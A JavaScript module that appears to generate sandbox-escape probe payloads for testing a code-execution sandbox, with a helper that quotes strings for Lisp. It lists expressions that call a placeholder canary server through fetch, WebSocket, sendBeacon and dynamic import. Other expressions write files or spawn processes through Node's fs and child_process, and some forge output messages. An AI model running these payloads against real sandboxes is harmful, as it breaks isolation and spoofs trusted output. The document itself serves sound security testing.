/**
 * The code that an attempt runs once it has JavaScript: it leaves marks that are seen from outside, at every
 * thing of value that there may be. `@URL@`, `@DIR@` and `@N@` stand for the place's canary server and folder
 * and for the attempt's number.
 */

const tries = [
  `fetch('@URL@/@N@')`,
  `(x=>{x.open('GET','@URL@/@N@');x.send()})(new XMLHttpRequest())`,
  `new Image().src='@URL@/@N@'`,
  `new WebSocket('@URL@/@N@'.replace('http','ws'))`,
  `new EventSource('@URL@/@N@')`,
  `navigator.sendBeacon('@URL@/@N@')`,
  `importScripts('@URL@/@N@')`,
  `new Worker('@URL@/@N@')`,
  `typeof document==='object'&&(window.escaped=@N@)`,
  `document.title='escaped-@N@'`,
  `localStorage.setItem('escaped-@N@',1)`,
  `indexedDB.open('escaped-@N@')`,
  `caches.open('escaped-@N@')`,
  `parent.postMessage('escaped-@N@','*')`,
  `postMessage({kind:'output',id:1,stream:'stdout',text:'FORGED-@N@'})`,
  `new BroadcastChannel('escaped').postMessage(@N@)`,
  `process.getBuiltinModule('fs').writeFileSync('@DIR@/@N@','')`,
  `process.getBuiltinModule('child_process').execFileSync('touch',['@DIR@/@N@'])`,
  `require('fs').writeFileSync('@DIR@/@N@','')`,
  `process.binding('fs')&&process.mainModule.require('fs').writeFileSync('@DIR@/@N@','')`,
  `process.stdout.write('{"id":"FORGED-@N@"}\\n')`,
];

const modules = [
  `import('@URL@/@N@.mjs')`,
  `import('data:text/javascript,globalThis.escaped=@N@')`,
  `import('node:fs').then(f=>f.writeFileSync('@DIR@/@N@',''))`,
  `import('node:http').then(h=>h.get('@URL@/@N@').on('error',()=>0))`,
  `import('node:child_process').then(c=>c.execFile('touch',['@DIR@/@N@'],()=>0))`,
];

/** An expression of JavaScript that makes all of these tries. */
const all = (expressions) =>
  `[${expressions.map((each) => `()=>${each}`).join(",")}].map(f=>{try{Promise.resolve(f()).catch(()=>0)}catch{}}).length`;

/** The payload without modules, because the word `import` is refused. */
export const PLAIN = all(tries);
export const MODULES = all(modules);
export const EVERYTHING = all([...tries, ...modules]);

/** A text as Lisp writes it. */
export function lispString(text) {
  return `"${text.replace(/[\\"]/g, "\\$&")}"`;
}
